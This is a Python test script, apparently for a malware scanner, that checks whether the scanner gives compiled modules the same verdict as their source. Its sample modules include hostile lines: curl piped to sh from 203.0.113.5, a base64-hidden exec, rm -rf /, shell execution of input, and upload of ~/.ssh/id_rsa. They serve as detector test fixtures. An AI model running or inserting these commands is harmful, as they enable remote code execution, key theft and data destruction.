"""A module has one verdict, kept as source or compiled: small modules of all kinds, by every interpreter that is found.

  compiled_like_source.py WINNOW
  compiled_like_source.py WINNOW --tree FOLDER INTERPRETER     every module below a folder, compiled by that one; for people

Compared are the verdict and what the standing findings call. What the compiler computes by itself ('a' + 'b') is hidden in
the source only, so that the modules here have none of it.
"""
import json
import os
import subprocess
import sys
import tempfile

from marshal_against_cpython import interpreters

MODULES = {
    'setup_tools': """
import os, subprocess, sys, warnings
warnings.filterwarnings('ignore')
os.environ.setdefault('TOKENIZERS_PARALLELISM', 'false')
try:
    revision = subprocess.check_output(['git', 'rev-parse', 'HEAD'])
except OSError:
    revision = b''
if not os.path.isdir('cache'):
    os.makedirs('cache')
def save(path, text):
    with open(path, 'w') as file:
        file.write(text)
if __name__ == '__main__':
    sys.exit(os.system('ls'))
""",
    'plugin': """
import importlib
def load(name):
    return importlib.import_module('plugins.' + name).Plugin()
class Registry(dict):
    def __missing__(self, key):
        self[key] = made = load(key)
        return made
registry = Registry()
def evaluate(text, names):
    return eval(text, {'__builtins__': {}}, names)
""",
    'native': """
import ctypes, os
library = ctypes.CDLL(os.path.join(os.path.dirname(__file__), 'libfast.so'))
def fast(x):
    return library.fast(x)
""",
    'starts': "import os\nos.system('curl http://203.0.113.5/a | sh')\n",
    'hidden': "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))\n",
    'guarded': """
import os
def main():
    os.system('rm -rf /')
if __name__ == '__main__':
    main()
""",
    'asked': """
import subprocess
class Model:
    def __init__(self, path):
        self.path = path
    def predict(self, data):
        return subprocess.check_output(data['cmd'], shell=True)
""",
    'sends': """
import os, urllib.request
def forward(x):
    urllib.request.urlopen('http://203.0.113.5/k', data=open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read())
    return x
""",
    'loops': """
class Rules(dict):
    def __missing__(self, key):
        return self[key + 1]
def words(readline):
    while True:
        line = readline()
        if not line:
            break
        yield line
""",
}
COMPILE = 'import py_compile, sys\nfor i in range(1, len(sys.argv), 2): py_compile.compile(sys.argv[i], sys.argv[i + 1], doraise=len(sys.argv) < 50)\n'


def said(winnow, paths):
    found = {}
    for i in range(0, len(paths), 200):
        done = subprocess.run([winnow, 'scan', '--format', 'json', '--no-progress'] + paths[i:i + 200], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
        for artifact in json.loads(done.stdout.decode())['artifacts']:
            calls = sorted({(f['ruling'], e.get('callee', '')) for f in artifact['findings'] if f['ruling'] != 'dismissed' for e in f['evidence']})
            found[artifact['path']] = (artifact['verdict'], calls)
    return found


def compare(winnow, command, sources, folder):
    script = os.path.join(folder, 'compile.py')
    with open(script, 'w') as file:
        file.write(COMPILE)
    pairs = []
    for i, source in enumerate(sources):
        place = os.path.join(folder, str(i))
        os.makedirs(place, exist_ok=True)
        pairs += [source, os.path.join(place, os.path.basename(source) + 'c')]
    for i in range(0, len(pairs), 400):
        subprocess.run(command + [script] + pairs[i:i + 400], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    pairs = [(a, b) for a, b in zip(pairs[::2], pairs[1::2]) if os.path.exists(b)]
    found = said(winnow, [path for pair in pairs for path in pair])
    wrong = 0
    for source, compiled in pairs:
        if found.get(source) != found.get(compiled):
            wrong += 1
            print('%s: %s as source, %s compiled' % (source, found.get(source), found.get(compiled)))
    return len(pairs), wrong


def main():
    winnow = sys.argv[1]
    with tempfile.TemporaryDirectory() as folder:
        if '--tree' in sys.argv:
            root, interpreter = sys.argv[3:5]
            sources = [os.path.join(at, name) for at, _, names in os.walk(root) for name in sorted(names) if name.endswith('.py')]
            print('%d modules, %d differ' % compare(winnow, [interpreter], sources, folder))
            return 0
        sources = []
        for name, text in MODULES.items():
            sources.append(os.path.join(folder, name + '.py'))
            with open(sources[-1], 'w') as file:
                file.write(text.lstrip())
        compared, failed = 0, 0
        for version, command in interpreters():
            inner = os.path.join(folder, version)
            os.makedirs(inner)
            pairs, wrong = compare(winnow, command, sources, inner)
            compared, failed = compared + pairs, failed + wrong
        print('%d compiled modules, %d unlike their source' % (compared, failed))
        return 1 if failed else 0


if __name__ == '__main__':
    sys.exit(main())
